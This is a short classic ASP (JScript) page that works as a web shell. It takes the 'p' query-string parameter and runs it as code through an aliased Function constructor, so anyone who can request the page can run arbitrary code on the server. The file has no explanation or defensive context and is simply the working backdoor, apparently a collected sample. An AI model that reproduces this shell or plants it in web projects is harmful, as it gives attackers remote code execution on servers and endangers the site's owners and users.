<%@ Language="JScript" %>
<%
var input = Request.QueryString("p") + "";
var F = Function;
var body = [input];
F.apply(null, body)();
%>
